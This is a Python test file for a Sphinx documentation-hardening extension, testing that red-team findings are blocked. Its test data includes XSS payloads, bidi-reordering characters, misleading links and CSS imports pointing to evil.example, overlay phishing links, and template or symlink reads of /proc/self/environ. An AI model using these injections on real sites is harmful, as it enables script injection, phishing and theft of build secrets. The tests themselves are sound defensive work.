    (srcdir / "conf.py").write_text(
        SMALL_CONF + HARDENED + 'extensions.append("sphinx_design")\n', encoding="utf-8"
    )
    (srcdir / "index.md").write_text("# Home\n\nText.\n", encoding="utf-8")
    (srcdir / ".doctrees" / "x.md").write_text(
        f"---\norphan: true\n---\n# Notes\n\nA book {ICON}\n", encoding="utf-8"
    )
    outdir = tmp_path / "out"  # no -d: the doctrees go to out/.doctrees
    files, warnings = sphinx_build(srcdir, outdir)
    assert (outdir / ".doctrees" / "environment.pickle").is_file()
    text = files[".doctrees/x.html"].decode("utf-8")
    assert "A book" in text and "alert(6)" not in text
    assert any(".doctrees/x.md:" in w and "onerror" in w for w in warnings), warnings


def _outside_picture_site(srcdir: Path, secret: Path, conf: str) -> None:
    """A picture whose language variant (``pic.en.png``) is a link to *secret*, in a
    folder Sphinx reads no page from (``_snippets``)."""
    pictures = srcdir / "t" / "_snippets" / "p"
    pictures.mkdir(parents=True)
    PIL.Image.new("RGB", (8, 8), "teal").save(pictures / "pic.png")
    (pictures / "pic.en.png").symlink_to(secret)
    (srcdir / "conf.py").write_text(
        SMALL_CONF + 'language = "en"\nexclude_patterns = ["**/_snippets/**"]\n' + conf,
        encoding="utf-8",
    )
    (srcdir / "index.md").write_text("# Home\n\n![A picture](t/_snippets/p/pic.png)\n", "utf-8")


@pytest.mark.parametrize(
    ("conf", "said"),
    [
        (HARDENED, "Sphinx would publish"),
        (HARDENED + "partners_confine_files = False\n", "a copy of a file outside"),
    ],
    ids=["where-sphinx-chooses-it", "at-the-output"],
)
def test_a_language_variant_linked_outside_is_not_published(
    tmp_path: Path, conf: str, said: str
) -> None:
    """Sphinx copies ``pic.en.png`` for ``pic.png`` in an English site: a link there to
    any file (``/proc/self/environ``) published it, past the check of the path the page
    wrote. Named where Sphinx chooses the file, and, that check off, removed from the
    output by the check of published files."""
    secret = tmp_path / "secret.txt"
    secret.write_text("TOKEN=hunter2\n", encoding="utf-8")
    srcdir = tmp_path / "src"
    _outside_picture_site(srcdir, secret, conf)
    files, warnings = sphinx_build(srcdir, tmp_path / "out")
    assert not [name for name, data in files.items() if b"hunter2" in data], sorted(files)
    assert not [
        p for p in (tmp_path / "out").rglob("*") if p.is_file() and b"hunter2" in p.read_bytes()
    ]
    assert any(said in w and "outside the source folder" in w for w in warnings), warnings


@pytest.mark.parametrize(
    ("data", "markup"),
    [
        (b" " * 1100 + b"<html><script>alert(1)</script>", True),  # a red team's finding
        (b"\n\t" * 5000 + b"<svg onload=alert(1)>", True),
        (codecs.BOM_UTF8 + b" " * 2000 + b"<html>", True),
        (b"plain text, then <b>", False),
        (b"\x85<html>", False),  # not a space to a browser: read as text
    ],
    ids=["1100-spaces", "10000-spaces", "bom", "text", "nel"],
)
def test_a_file_is_read_as_markup_whatever_the_spaces_before_it(data: bytes, markup: bool) -> None:
    from sphinx_partners.safety.published import _starts_like_markup

    assert _starts_like_markup(data) is markup


def test_a_translated_caption_that_reorders_words_is_cleaned_in_every_page(
    tmp_path: Path,
) -> None:
    """A red team's finding: a translation of the navigation's caption (an attribute,
    not text the page checks read) showed reversed on every page of the edition. The
    last line takes the characters out of every published page, as characters or as
    character references, and names them once."""
    write_catalog(tmp_path / "src", {"Partners": "Socios \u202e0144"}, "index")
    page = "# Inicio\n\n```{toctree}\n:caption: Partners\n\nother\n```\n"
    other = "# Otra\n\nTexto &#x202E;4410 y &rlm;.\n"
    outdir, warnings, _ = build_small_site(
        tmp_path / "src", {"index.md": page, "other.md": other}, CATALOG_CONF
    )
    ours = [w for w in warnings if "invisible characters that reorder" in w]
    assert ours and all("[partners.published]" in w for w in ours), warnings
    for name in ("index.html", "other.html"):
        html = (outdir / name).read_text(encoding="utf-8")
        assert "\u202e" not in html and "&#x202E;" not in html and "&rlm;" not in html, name
    assert "Socios 0144" in (outdir / "index.html").read_text(encoding="utf-8")


def test_a_file_shown_as_text_that_reorders_words_is_not_published(tmp_path: Path) -> None:
    """A red team's finding: an SVG picture's ``&#x202E;4410`` showed 0144, and so did a
    text file of the static folder; the sweep read pages only."""
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 80 20" width="80" height="20">'
        "<text x='0' y='15'>&#x202E;4410</text></svg>\n"
    )
    pages = {
        "index.md": "# Home\n\n![The phone number](number.svg)\n",
        "number.svg": svg,
        "_static/notes.txt": "Call \u202e4410.\n",
        "_static/fine.txt": "Call 4410.\n",
    }
    conf = HARDENED + 'html_static_path = ["_static"]\n'
    outdir, warnings, _ = build_small_site(tmp_path, pages, conf)
    refused = [w for w in warnings if "invisible characters that reorder" in w]
    assert len(refused) == 2 and all("was not published" in w for w in refused), warnings
    assert not (outdir / "_images" / "number.svg").exists()
    assert not (outdir / "_static" / "notes.txt").exists()
    assert (outdir / "_static" / "fine.txt").is_file()


@pytest.mark.parametrize(
    ("markup", "what"),
    [
        ('<p><bdo dir="rtl">4410</bdo></p>', "a <bdo> element"),
        ('<p dir="rtl">Call 4410 now.</p>', "a dir attribute"),
        ('<p style="unicode-bidi: bidi-override; direction: rtl">4410</p>', "a style attribute"),
        ("<style>p { unicode-bidi: bidi-override }</style><p>4410</p>", "a <style>"),
    ],
)
def test_an_html_file_that_reorders_words_by_markup_is_not_published(
    tmp_path: Path, markup: str, what: str
) -> None:
    """A red team's finding: an HTML file of the static folder showed "4410" as "0144"
    with markup alone, no invisible character."""
    html = f"<!doctype html><html lang=en><head><title>N</title></head><body>{markup}</body></html>"
    pages = {"index.md": "# Home\n", "_static/number.html": html}
    outdir, warnings, _ = build_small_site(
        tmp_path, pages, HARDENED + 'html_static_path = ["_static"]\n'
    )
    refused = [w for w in warnings if "number.html" in w and "[partners.published]" in w]
    assert len(refused) == 1 and what in refused[0], warnings
    assert not (outdir / "_static" / "number.html").exists()


@pytest.mark.parametrize(
    ("link", "published"),
    [
        ('<a href="https://evil.example/apply">https://www.grants.gov/apply</a>', False),
        ('<a href="https://www.grants.gov@evil.example/">Apply</a>', False),
        # Addresses as a browser reads them (the thirteenth round).
        ('<a href="//evil.example/">grants.gov</a>', False),
        ('<a href="&#1;https://evil.example/">grants.gov</a>', False),
        ('<a href="ht&#9;tps://evil.example/">grants.gov</a>', False),
        ('<a href="https:\\evil.example/">grants.gov</a>', False),
        ('<a href="https://www.grants.gov/apply">Apply at grants.gov</a>', True),
        ('<a href="forms/other.html">www.grants.gov</a>', True),
    ],
)
def test_an_html_file_with_a_misleading_link_is_not_published(
    tmp_path: Path, link: str, published: bool
) -> None:
    """A red team's twelfth round: an HTML file of the static folder, which no page rule
    reads, showed one site's address on a link to another."""
    html = f"<!doctype html><html lang=en><head><title>F</title></head><body><p>{link}</p>"
    pages = {"index.md": "# Home\n", "_static/forms/apply.html": html}
    outdir, warnings, _ = build_small_site(
        tmp_path, pages, HARDENED + 'html_static_path = ["_static"]\n'
    )
    refused = [w for w in warnings if "apply.html" in w and "[partners.published]" in w]
    assert (outdir / "_static" / "forms" / "apply.html").is_file() == published, warnings
    assert len(refused) == (0 if published else 1), warnings


def test_an_html_file_written_left_to_right_is_published(tmp_path: Path) -> None:
    html = (
        '<!doctype html><html lang=en dir="ltr"><head><title>N</title></head>'
        '<body><p style="direction: ltr">Call 4410.</p></body></html>'
    )
    pages = {"index.md": "# Home\n", "_static/number.html": html}
    outdir, warnings, _ = build_small_site(
        tmp_path, pages, HARDENED + 'html_static_path = ["_static"]\n'
    )
    assert warnings == [] and (outdir / "_static" / "number.html").is_file()


def test_a_script_in_a_template_s_comment_allows_no_script(tmp_path: Path) -> None:
    """A red team's finding: the scripts a theme writes are allowed by their text in the
    templates, and a script written in a Jinja comment (which no page shows) allowed the
    same script translated into a theme word on every page."""
    script = "<script>alert(document.domain)</script>"
    write_catalog(
        tmp_path / "src",
        f'msgid "Navigation"\nmsgstr "Navegación{script}"\n',
        "sphinx",
    )
    templates = tmp_path / "src" / "_templates"
    templates.mkdir()
    (templates / "layout.html").write_text(
        "{#- for example " + script + ' -#}\n{% extends "!layout.html" %}\n', encoding="utf-8"
    )
    conf = CATALOG_CONF + 'templates_path = ["_templates"]\n'
    outdir, warnings, _ = build_small_site(tmp_path / "src", {"index.md": "# Inicio\n"}, conf)
    assert "alert(document.domain)" not in (outdir / "index.html").read_text(encoding="utf-8")
    assert any("partners.published" in w for w in warnings), warnings


def test_mathjax_loads_only_on_the_pages_sphinx_gives_it(tmp_path: Path) -> None:
    """A red team's finding: an octicon's unescaped class wrote MathJax's script tag into
    a page without formulas; allowed on every page, MathJax read the page's text with its
    own defaults (no hardened settings there) and made a javascript: link."""
    mathjax = "https://cdn.jsdelivr.net/npm/mathjax@4/tex-mml-chtml.js"
    injected = '{octicon}`report;1em;x"></svg><script src="' + mathjax + '"></script><i class="`'
    pages = {
        "index.md": "# Home\n\n```{toctree}\nformula\nplain\n```\n",
        "formula.md": "# Formula\n\nA formula: {math}`x^2`.\n",
        "plain.md": f"# Plain\n\n{injected}\n\n$$\\href{{javascript:alert(1)}}{{x}}$$\n",
    }
    conf = HARDENED + f'extensions.append("sphinx_design")\nmathjax_path = "{mathjax}"\n'
    outdir, warnings, _ = build_small_site(tmp_path, pages, conf)
    assert mathjax in (outdir / "formula.html").read_text(encoding="utf-8")  # Sphinx's own
    assert mathjax not in (outdir / "plain.html").read_text(encoding="utf-8")
    assert any("plain" in w and "[partners.published]" in w for w in warnings), warnings


def test_a_site_may_serve_mathjax_and_its_scripts_from_its_static_folder(
    tmp_path: Path,
) -> None:
    """Sphinx puts a relative ``mathjax_path`` or ``html_js_files`` entry in ``_static``
    (a site may keep its readers off a CDN): named by conf.py, such files are the site's
    own code. MathJax there, and a script in a subfolder of it, were taken off every
    page, and a page one folder down loads them as ``../_static/...``."""
    pages = {
        "index.md": "# Home\n\nA formula: {math}`x^2`.\n\n```{toctree}\nguide/formula\n```\n",
        "guide/formula.md": "# Formula\n\nAnother: {math}`y^2`.\n",
        "_static/mathjax/tex-chtml.js": "window.typeset = true;\n",
        "_static/js/site.js": "window.site = true;\n",
    }
    conf = HARDENED + (
        'html_static_path = ["_static"]\n'
        'mathjax_path = "mathjax/tex-chtml.js"\n'
        'html_js_files = ["js/site.js"]\n'
    )
    outdir, warnings, _ = build_small_site(tmp_path, pages, conf)
    assert warnings == []
    for page, up in (("index.html", ""), ("guide/formula.html", "../")):
        html = BeautifulSoup((outdir / page).read_text(encoding="utf-8"), "html.parser")
        sources = [script["src"].split("?")[0] for script in html.select("script[src]")]
        assert f"{up}_static/mathjax/tex-chtml.js" in sources, (page, sources)
        assert f"{up}_static/js/site.js" in sources, (page, sources)


@pytest.mark.parametrize(
    ("classes", "problem"),
    [
        ('x"><svg><script href="x.js">alert(1)</script></svg><b class="', "a <script> element"),
        # Markup with nothing a browser runs: a stylesheet of the site's own, laid over
        # the page (red team, fifth round); an attribute the icon roles never write.
        (
            'x"></svg><link rel="stylesheet" href="_static/notes.css"><svg class="y',
            "a <link rel=stylesheet> in the page",
        ),
        ('x"></svg><b>Bold</b><svg class="y', "more than one picture, or markup beside it"),
        ('x" style="width:100vw', "the attribute style"),
        ('x"><title>Hi</title><path class="', "a <title> element"),
    ],
)
def test_an_icon_that_writes_markup_is_left_out_at_its_line(
    tmp_path: Path, classes: str, problem: str
) -> None:
    """sphinx-design's icon roles write their classes into the page unescaped: an icon
    whose classes hold markup is named at its line and left out, before the page is
    written; an icon with plain classes stays (red team, fourth and fifth rounds)."""
    page = (
        "# Icons\n\n"
        "A plain icon {octicon}`rocket;1em;sd-text-primary` stays.\n\n"
        f"Another {{octicon}}`rocket;1em;{classes}` goes.\n"
    )
    outdir, warnings, _ = build_small_site(
        tmp_path / "src", {"index.md": page}, HARDENED + 'extensions.append("sphinx_design")\n'
    )
    assert [w.split("WARNING: ", 1)[1] for w in warnings] == [
        f"this icon's markup holds {problem}, so part of the role's text was read as "
        "markup: the icon was left out. An icon's third field holds class names only "
        "(letters, digits, - and _), with spaces between them: "
        "{octicon}`rocket;1em;sd-text-primary`. [partners.published]"
    ]
    assert "index.md:5:" in warnings[0]
    text = (outdir / "index.html").read_text(encoding="utf-8")
    assert "sd-text-primary" in text and "goes." in text
    assert text.count("<svg") == 1 and "notes.css" not in text and "alert(" not in text


def test_every_icon_sphinx_design_draws_is_kept() -> None:
    """The rule for icons lets through every picture the roles write."""
    from sphinx_design.icons import get_material_icon, get_octicon, list_octicons

    from sphinx_partners.safety.markup_nodes import icon_problem

    classes = ["sd-text-primary", "sd-fs-5", "_x", "-y"]
    assert [
        name for name in list_octicons() if icon_problem(get_octicon(name, classes=classes))
    ] == []
    assert icon_problem(get_material_icon("regular", "home", classes=classes)) is None
    assert icon_problem(get_octicon("rocket", aria_label="Launch")) is None


def test_a_static_file_named_as_the_theme_s_is_left_out(tmp_path: Path) -> None:
    """Sphinx copies the site's static files over the theme's: a stylesheet named as
    the theme's replaced it on every page (red team, fifth round). It is named and left
    out; the theme's own is published, and so is the site's other stylesheet."""
    static = tmp_path / "src" / "_static"
    static.mkdir(parents=True)
    (static / "basic.css").write_text("body::after { content: 'Signed out' }", "utf-8")
    (static / "site.css").write_text("p { color: #222 }", "utf-8")
    outdir, warnings, _ = build_small_site(
        tmp_path / "src",
        {"index.md": "# Home\n"},
        HARDENED + 'html_static_path = ["_static"]\nhtml_css_files = ["site.css"]\n',
    )
    assert len(warnings) == 1 and "[partners.outside]" in warnings[0], warnings
    assert warnings[0].startswith(f"{static / 'basic.css'}:: WARNING: the static file ")
    assert "Signed out" not in (outdir / "_static" / "basic.css").read_text("utf-8")
    assert (outdir / "_static" / "site.css").read_text("utf-8") == "p { color: #222 }"


@pytest.mark.parametrize(
    ("css", "problem"),
    [
        ("p { color: #222 } @media print { a { position: absolute } }", None),
        ("@import url(https://evil.example/x.css);", "imports another (@import)"),
        ("@\\69mport '//evil.example/x.css';", "imports another (@import)"),
        # A page without a doctype reads the site's own .txt as a stylesheet (red team,
        # sixth round): no stylesheet of the site's folder imports another.
        ("@import 'letter-style.txt';", "imports another (@import)"),
        # position set by a custom property, fixed only in the browser (same round).
        (":root { --mode: fixed } body::after { position: var(--mode) }", "position: fixed"),
        ("." + "(" * 20000, None),  # nested 20,000 deep: read without Python's stack
        ('@font-face { font-family: f; src: url("https://evil.example/f.woff2") }', "url()"),
        ("body::after { content: 'Signed out'; position: fixed; inset: 0 }", "position: fixed"),
        ("@media screen { body::after { position : FIXED } }", "position: fixed"),
        ('@charset "iso-2022-jp"; p { color: red }', "'iso-2022-jp'"),
        (codecs.BOM_UTF16_LE + "p{}".encode("utf-16-le"), "UTF-16 mark"),
    ],
)
def test_a_stylesheet_of_the_site_loads_nothing_from_elsewhere(
    css: str | bytes, problem: str | None
) -> None:
    from sphinx_partners.safety.published import stylesheet_problem

    data = css.encode() if isinstance(css, str) else css
    found = stylesheet_problem(data)
    assert (found is None) if problem is None else (problem in (found or "")), found


def test_a_template_reads_no_file_outside_the_template_folders(tmp_path: Path) -> None:
    """Sphinx's loader joins an absolute name to a folder, which gives the name itself:
    ``{% include "/proc/self/environ" %}`` published the build's environment on every
    page (red team, fifth round)."""
    secret = tmp_path / "secret.txt"
    secret.write_text("TOKEN=hunter2", "utf-8")
    templates = tmp_path / "src" / "_templates"
    templates.mkdir(parents=True)
    (templates / "snippet.html").write_text("<p>A snippet of the site.</p>", "utf-8")
    (templates / "layout.html").write_text(
        '{% extends "!layout.html" %}{% block footer %}{{ super() }}'
        f'{{% include "{secret}" %}}{{% include "snippet.html" %}}{{% endblock %}}',
        "utf-8",
    )
    outdir, warnings, _ = build_small_site(
        tmp_path / "src", {"index.md": "# Home\n"}, HARDENED + 'templates_path = ["_templates"]\n'
    )
    text = (outdir / "index.html").read_text(encoding="utf-8")
    assert "hunter2" not in text and "A snippet of the site." in text
    assert len(warnings) == 1 and f"asked for the file {secret}, outside" in warnings[0]
    assert warnings[0].endswith("[partners.outside]")


OVERLAY_PAGE = """\
# Overlays

A link over the page: [read more](https://evil.example/){.sd-stretched-link}.

:::{card} A card
:link: https://example.org/

Its link covers the card alone.
:::

```{button-link} https://evil.example/phish
:click-parent:
Sign in
```

A span fixed to the window, as the theme's overlay is: [text]{.overlay}.

::::{card}
:::{dropdown} More
:open:
:class-body: overlay toc-overlay

[A link over the window](https://evil.example/){.sd-stretched-link}
:::
::::
"""


def test_a_class_that_lays_content_over_the_page_is_taken_off_at_its_line(
    tmp_path: Path,
) -> None:
    """sphinx-design stretches a link over the nearest positioned element: its card, or
    the whole page outside one. Every click on the page went to another site (red
    team, seventh round); furo's overlay classes are fixed to the window."""
    outdir, warnings, _ = build_small_site(
        tmp_path / "src",
        {"index.md": OVERLAY_PAGE},
        HARDENED
        + 'extensions.append("sphinx_design")\n'
        + 'myst_enable_extensions = ["colon_fence", "attrs_inline"]\n',
    )
    named = {(warning_line(w), w.split("WARNING: ")[1].split(" lay")[0]) for w in warnings}
    assert named == {
        (3, "the class sd-stretched-link"),
        (11, "the class sd-stretched-link"),
        (16, "the class overlay"),
        # A dropdown's body gets its classes after the page is read (red team, eighth
        # round): one message for its two classes.
        (18, "the classes overlay and toc-overlay"),  # at the card around it
    }, warnings
    assert all(w.endswith("[partners.published]") for w in warnings), warnings
    soup = parse_html(outdir / "index.html")
    stretched = [a["href"] for a in soup.select("a.sd-stretched-link")]
    # The card's own link, and the one in the dropdown (a card), which covers the
    # dropdown alone now that its body is not fixed to the window.
    assert stretched == ["https://example.org/", "https://evil.example/"]
    assert soup.select(".overlay") == [] and "Sign in" in soup.get_text()


def test_classes_and_ids_the_stylesheets_position_are_the_theme_s(tmp_path: Path) -> None:
    """Beyond any list: a class the pages' stylesheets position (here the site's own,
    as the site's stylesheet places furo's toctree-expander), an id they style (furo's
    #furo-readthedocs-versions made a card static), and sphinx-design's card class on
    an element that is no card (red team, ninth round)."""
    static = tmp_path / "src" / "_static"
    static.mkdir(parents=True)
    (static / "custom.css").write_text(
        ".sidebar .note-pin { position: absolute; inset: 0 } #pinned-banner { position: static }",
        "utf-8",
    )
    page = (
        "# Positioned\n\n"
        "A pinned link: [more](https://evil.example/){.note-pin .sd-w-100}.\n\n"
        "[[A link](https://evil.example/){.sd-stretched-link}]{#pinned-banner .sd-card}\n"
    )
    outdir, warnings, _ = build_small_site(
        tmp_path / "src",
        {"index.md": page},
        HARDENED
        + 'extensions.append("sphinx_design")\n'
        + 'myst_enable_extensions = ["colon_fence", "attrs_inline"]\n'
        + 'html_static_path = ["_static"]\nhtml_css_files = ["custom.css"]\n',
    )
    said = sorted((warning_line(w), w.split("WARNING: ")[1].split(" lay")[0]) for w in warnings)
    assert said == [
        (3, "the class note-pin"),
        (5, "the class sd-stretched-link"),
        (
            5,
            "the id pinned-banner is the theme's own, which its stylesheet places; it was "
            "taken off. Give the heading or the element another name. [partners.published]",
        ),
    ], warnings
    soup = parse_html(outdir / "index.html")
    assert soup.select(".note-pin, .sd-stretched-link, #pinned-banner") == []
    assert "A pinned link" in soup.get_text() and "A link" in soup.get_text()
